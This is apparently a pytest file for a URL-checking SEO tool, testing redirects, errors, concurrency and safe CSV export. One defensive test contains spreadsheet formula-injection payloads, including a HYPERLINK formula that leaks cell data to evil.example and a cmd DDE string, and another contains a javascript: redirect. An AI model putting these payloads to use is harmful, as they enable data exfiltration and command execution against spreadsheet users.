"""url_checker.py against a local test site: what it reports for a page, each hop of a redirect chain, a loop, a 404,
a page too slow, a host that does not exist; how many URLs it checks at once; the CSV it writes (safe to open in a
spreadsheet); and the starter notebook, run headless."""

import asyncio
import csv
import socket
import subprocess
import sys
import time

import pytest
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, PlainTextResponse, RedirectResponse
from starlette.routing import Route

from core.seo import url_checker
from conftest import ROOT, free_port, run_notebook, served, shipped
from core.seo.url_checker import UrlCheck, check_urls, parse_redirect_map, parse_url_list, write_csv

NOTEBOOK = ROOT / "notebooks" / "apps" / "url_checker.ipynb"


class LocalSite:
    "Pages with known answers, and a count of the requests it is serving at once."

    def __init__(self):
        self.in_flight = self.most_in_flight = 0
        self.app = Starlette(routes=[
            Route("/", lambda request: HTMLResponse("<html><head><title>\n Home &amp; garden\n</title></head></html>")),
            Route("/old", lambda request: RedirectResponse("/", 301)),
            Route("/gone", lambda request: RedirectResponse("/missing", 301)),
            Route("/hop/{n:int}", self.hop),
            Route("/loop", lambda request: RedirectResponse("/loop-back", 302)),
            Route("/loop-back", lambda request: RedirectResponse("/loop", 307)),
            Route("/forever/{n:int}", lambda request: RedirectResponse(f"/forever/{request.path_params['n'] + 1}")),
            Route("/missing", lambda request: HTMLResponse("<title>Not found</title>", 404)),
            Route("/plain", lambda request: PlainTextResponse("<title>not a page</title>")),
            Route("/slow", self.slow),
            Route("/busy/{n}", self.busy),
            Route("/to-javascript", lambda request: RedirectResponse("javascript:alert(1)", 302)),
        ])

    def hop(self, request):
        "/hop/3 answers 301 to /hop/2, which answers 302 to /hop/1, 307 to /hop/0, and that one 308 to /."
        n = request.path_params["n"]
        return RedirectResponse(f"/hop/{n - 1}" if n > 1 else "/", {4: 301, 3: 302, 2: 307, 1: 308}[n])

    async def slow(self, request):
        await asyncio.sleep(3)
        return HTMLResponse("<title>Too late</title>")

    async def busy(self, request):
        self.in_flight += 1
        self.most_in_flight = max(self.most_in_flight, self.in_flight)
        await asyncio.sleep(0.2)
        self.in_flight -= 1
        return HTMLResponse(f"<title>Busy {request.path_params['n']}</title>")


@pytest.fixture(scope="module")
def site():
    with served(LocalSite()) as site:
        yield site


def check(*urls, **options) -> list[UrlCheck]:
    return asyncio.run(check_urls(urls, **{"timeout": 1} | options))


def test_a_pasted_list_becomes_urls_without_blanks_repeats_or_junk():
    urls, invalid = parse_url_list("""
        https://example.com/a
        example.com/a

        http://Example.org:8080/x?y=1
        https://example.com/a
        not a url
        ftp://example.com/file
        https://-bad-.example
        nope
        https://intranet/
        127.0.0.1:5001/page
        http://localhost:8000/
        http://[::1]:8000/
    """)
    assert urls == ["https://example.com/a", "http://example.org:8080/x?y=1", "https://127.0.0.1:5001/page",
                    "http://localhost:8000/", "http://[::1]:8000/"]
    assert invalid == [("not a url", "it has spaces in it"), ("ftp://example.com/file", "ftp: is not http or https"),
                       ("https://-bad-.example", "-bad-.example is not a host name"),
                       ("nope", "there is no dot in the host"), ("https://intranet/", "there is no dot in the host")]


def test_a_redirect_map_pastes_as_two_columns_or_with_arrows_and_a_bad_line_says_which_url_is_wrong():
    expected, invalid = parse_redirect_map("https://old.example/a\thttps://new.example/a\n"  # a spreadsheet's columns
                                           "old.example/b -> new.example/b\n"
                                           "https://old.example/c\n"  # no target: only checked
                                           "https://old.example/d\tnope\n"
                                           "https://old.example/g\tnot a url\n"  # two columns, the second no URL
                                           "https://old.example/e\thttps://new.example/e\thttps://new.example/f\n")
    assert expected == {"https://old.example/a": "https://new.example/a",
                        "https://old.example/b": "https://new.example/b", "https://old.example/c": None}
    assert invalid == [("https://old.example/d\tnope", "the URL it should redirect to: there is no dot in the host"),
                       ("https://old.example/g\tnot a url", "the URL it should redirect to: it has spaces in it"),
                       ("https://old.example/e\thttps://new.example/e\thttps://new.example/f",
                        "it has more than two URLs in it")]
    assert parse_url_list("https://old.example/a\thttps://new.example/a") == (["https://old.example/a"], [])


def test_a_redirect_map_says_what_keeps_each_url_from_moving_as_a_migration_should(site):
    mapped = {f"{site.url}/old": f"{site.url}/",  # 301 straight to it: as mapped
              f"{site.url}/hop/1": site.url,  # 308 to / (the same URL without its slash)
              f"{site.url}/hop/2": f"{site.url}/hop/1",  # 307, and /hop/1 redirects again
              f"{site.url}/hop/4": f"{site.url}/",  # 301 elsewhere, reaching / after 4 redirects
              f"{site.url}/gone": f"{site.url}/missing",  # 301 to a 404
              f"{site.url}/missing": f"{site.url}/",  # no redirect at all
              f"{site.url}/loop": f"{site.url}/"}
    results = check(*mapped)
    for result in results: result.expected = mapped[result.url]
    assert [result.migration for result in results] == [
        "", "",
        "a temporary redirect (307), not 301 or 308; the expected URL redirects again (308)",
        f"it redirects to {site.url}/hop/3, and reaches the expected URL after 4 redirects",
        "the expected URL answers 404",
        "no redirect: it answers 404",
        f"a temporary redirect (302), not 301 or 308; it redirects to {site.url}/loop-back, not to the expected URL"]
    assert UrlCheck("https://a.example/").migration == ""  # nothing expected, nothing to say


def test_credentials_in_a_pasted_url_are_dropped_before_it_is_kept_or_asked(site):
    urls, _ = parse_url_list(f"http://user:secret@{site.url.split('://')[1]}/\nuser:secret@example.com/a")
    assert urls == [f"{site.url}/", "https://example.com/a"]


def test_a_page_gives_its_status_title_and_time(site):
    [home] = check(f"{site.url}/")
    assert (home.status, home.final_status, home.title, home.error) == (200, 200, "Home & garden", None)
    assert (home.final_url, home.redirects, home.hops, home.flag) == (f"{site.url}/", 0, [home.hops[0]], "")
    assert 0 < home.seconds < 1


def test_a_redirect_answers_its_own_code_and_gives_where_it_leads(site):
    [old] = check(f"{site.url}/old")
    assert (old.status, old.redirects, old.final_url, old.final_status) == (301, 1, f"{site.url}/", 200)
    assert old.title == "Home & garden" and old.flag == ""
    assert old.chain == f"301 {site.url}/old → 200 {site.url}/"


def test_every_hop_of_a_chain_keeps_its_code_and_a_chain_is_flagged(site):
    [chain] = check(f"{site.url}/hop/4")
    assert [(hop["url"], hop["status"]) for hop in chain.hops] == [
        (f"{site.url}/hop/4", 301), (f"{site.url}/hop/3", 302), (f"{site.url}/hop/2", 307),
        (f"{site.url}/hop/1", 308), (f"{site.url}/", 200)]
    assert (chain.status, chain.redirects, chain.final_status, chain.flag) == (301, 4, 200, "chain of 4 redirects")


def test_a_redirect_loop_and_an_endless_chain_are_errors_flagged_as_such(site):
    loop, endless = check(f"{site.url}/loop", f"{site.url}/forever/0")
    assert [hop["status"] for hop in loop.hops] == [302, 307] and loop.final_status is None
    assert (loop.flag, loop.error) == ("redirect loop", f"Redirect loop: {site.url}/loop redirects back to itself")
    assert (endless.flag, endless.error) == ("too many redirects", "More than 10 redirects")
    assert endless.redirects == len(endless.hops) == 11 and endless.final_url is None


def test_a_missing_page_gives_its_404(site):
    [missing] = check(f"{site.url}/missing")
    assert (missing.status, missing.final_status, missing.title, missing.error) == (404, 404, "Not found", None)


def test_a_title_is_read_from_html_only(site):
    [plain] = check(f"{site.url}/plain")
    assert (plain.status, plain.title) == (200, None)


def test_a_page_slower_than_the_timeout_is_an_error_in_its_result(site):
    started = time.monotonic()
    [slow] = check(f"{site.url}/slow", timeout=0.5)
    assert (slow.status, slow.error) == (None, "Timed out after 0.5 s")
    assert 0.5 <= slow.seconds < 1 and time.monotonic() - started < 2


def test_hosts_that_do_not_answer_are_errors_in_words_and_the_others_still_get_checked(site):
    port, plain = free_port(), site.url.removeprefix("http://")
    unknown, refused, tls, javascript, home = check(
        "http://nothing.invalid/", f"http://127.0.0.1:{port}/", url_checker.normal_url(plain),  # https:// by default
        f"{site.url}/to-javascript", f"{site.url}/")
    assert (unknown.status, unknown.error) == (None, "Host not found: nothing.invalid has no address (DNS)")
    assert (refused.status, refused.error) == (None, f"Connection refused: nothing answers at 127.0.0.1:{port}")
    assert tls.status is None and tls.error.startswith(f"{plain} does not speak HTTPS (the secure connection "
                                                       "failed): try http:// instead")
    assert (javascript.status, javascript.error) == (
        302, "Its redirect is not followed: javascript:alert(1) is not a web address (javascript:)")
    assert home.status == 200


def test_no_more_urls_than_the_concurrency_are_checked_at_once(site):
    site.most_in_flight = 0
    started = time.monotonic()
    results = check(*(f"{site.url}/busy/{n}" for n in range(12)), concurrency=3)
    assert site.most_in_flight == 3  # never more, and the 3 did run side by side
    assert time.monotonic() - started >= 4 * 0.2
    assert [r.title for r in results] == [f"Busy {n}" for n in range(12)]  # in the order asked


def test_each_result_is_reported_as_soon_as_it_is_ready(site):
    reported = []

    async def on_result(result): reported.append(result.url)

    results = check(f"{site.url}/busy/1", f"{site.url}/", concurrency=2, on_result=on_result)
    assert reported == [f"{site.url}/", f"{site.url}/busy/1"]  # the quick page first
    assert [r.url for r in results] == [f"{site.url}/busy/1", f"{site.url}/"]


def test_the_app_checks_in_a_process_of_its_own_with_the_same_results(site):
    urls = [f"{site.url}{path}" for path in ("/busy/1", "/", "/hop/4", "/loop", "/missing", "/plain")]
    urls.append("http://127.0.0.1:9/")  # nothing listens on the discard port
    reported = []

    async def on_result(result): reported.append(result.url)

    apart = asyncio.run(url_checker.check_urls_apart(urls, concurrency=3, timeout=2, on_result=on_result))
    here = check(*urls, concurrency=3, timeout=2)
    assert [result.url for result in apart] == urls  # in the order given
    assert sorted(reported) == sorted(urls) and reported[-1] == f"{site.url}/busy/1"  # each as soon as it is ready
    assert [(r.hops, r.final_url, r.final_status, r.title, r.flag, bool(r.error)) for r in apart] == \
           [(r.hops, r.final_url, r.final_status, r.title, r.flag, bool(r.error)) for r in here]


def test_a_cancelled_check_stops_its_process(site, monkeypatch):
    started, spawn = [], asyncio.create_subprocess_exec

    async def spawned(*args, **kwargs):
        started.append(await spawn(*args, **kwargs))
        return started[-1]

    monkeypatch.setattr(asyncio, "create_subprocess_exec", spawned)

    async def cancelled_soon():
        checking = asyncio.create_task(url_checker.check_urls_apart([f"{site.url}/slow"], timeout=10))
        await asyncio.sleep(1)
        checking.cancel()
        with pytest.raises(asyncio.CancelledError): await checking

    asyncio.run(cancelled_soon())
    assert len(started) == 1 and started[0].returncode is not None  # stopped, not left checking


def test_the_checks_process_stops_once_the_app_that_asked_is_gone():
    with socket.create_server(("127.0.0.1", 0)) as silent:  # takes connections, never answers
        checker = subprocess.Popen([sys.executable, "-m", "core.seo.url_checker", "1", "60"], cwd=ROOT, stdin=subprocess.PIPE,
                                   stdout=subprocess.PIPE)
        try:
            checker.stdin.write(f'["http://127.0.0.1:{silent.getsockname()[1]}/"]\n'.encode())
            checker.stdin.flush()
            time.sleep(1)
            checker.stdin.close()  # as when the app is killed: the OS closes its pipes
            assert checker.wait(timeout=20) == 0  # long before the check's 60 s timeout
        finally:
            checker.kill()


def test_results_are_saved_as_csv_under_data_with_every_hop(tmp_path, monkeypatch):
    monkeypatch.setattr(url_checker, "CHECKS_DIR", tmp_path / "url_checks")
    hops = [{"url": "https://a.example/", "status": 301}, {"url": "https://a.example/new", "status": 200}]
    results = [UrlCheck("https://a.example/", hops, "https://a.example/new", 200, "New, \"quoted\" title", 0.12),
               UrlCheck("https://b.example/", seconds=1.0, error="Timed out after 1 s")]
    path = write_csv(results, "run 7/../x")
    assert path == tmp_path / "url_checks" / "run_7_.._x.csv"
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows == [
        {"url": "https://a.example/", "status": "301", "redirects": "1",
         "chain": "301 https://a.example/ → 200 https://a.example/new", "final_url": "https://a.example/new",
         "final_status": "200", "title": 'New, "quoted" title', "seconds": "0.12", "flag": "", "error": "",
             "expected": "", "migration": ""},
        {"url": "https://b.example/", "status": "", "redirects": "0", "chain": "", "final_url": "",
         "final_status": "", "title": "", "seconds": "1.0", "flag": "", "error": "Timed out after 1 s",
             "expected": "", "migration": ""}]
    assert write_csv(results).parent == tmp_path / "url_checks"  # a run without a name is named for the time


def test_a_title_that_a_spreadsheet_would_run_goes_into_the_csv_as_text(tmp_path, monkeypatch):
    monkeypatch.setattr(url_checker, "CHECKS_DIR", tmp_path)
    titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
              "\tTabbed", "\rReturned", "-5", "A = B"]
    path = write_csv([UrlCheck(f"https://a.example/{n}", title=title) for n, title in enumerate(titles)])
    with path.open(newline="") as file:
        written = [row["title"] for row in csv.DictReader(file)]
    assert written == ["'" + title for title in titles[:6]] + ["-5", "A = B"]


@shipped("notebooks/apps/url_checker.ipynb")
def test_the_starter_notebook_checks_urls_headless(site, tmp_path, monkeypatch):
    monkeypatch.setenv("DATA_DIR", str(tmp_path / "data"))  # the kernel's config.py saves the CSV there
    text = run_notebook(NOTEBOOK, f'URLS = """\n{site.url}/\n{site.url}/old\nnot a url\n{site.url}/missing\n"""\n'
                                  "CONCURRENCY = 2\nTIMEOUT = 2\n")
    assert "3 URLs to check" in text and "Not a URL, skipped: not a url (it has spaces in it)" in text
    assert f"  301  {site.url}/old" in text  # each URL as it is checked; the results are a table (a DataFrame)
    [saved] = (tmp_path / "data" / "url_checks").glob("*.csv")
    assert f"{site.url}/old → 200 {site.url}/" in saved.read_text() and "Home & garden" in saved.read_text()
    with saved.open(newline="") as file:
        assert [(row["url"], row["status"], row["final_status"]) for row in csv.DictReader(file)] == [
            (f"{site.url}/", "200", "200"), (f"{site.url}/old", "301", "200"), (f"{site.url}/missing", "404", "404")]
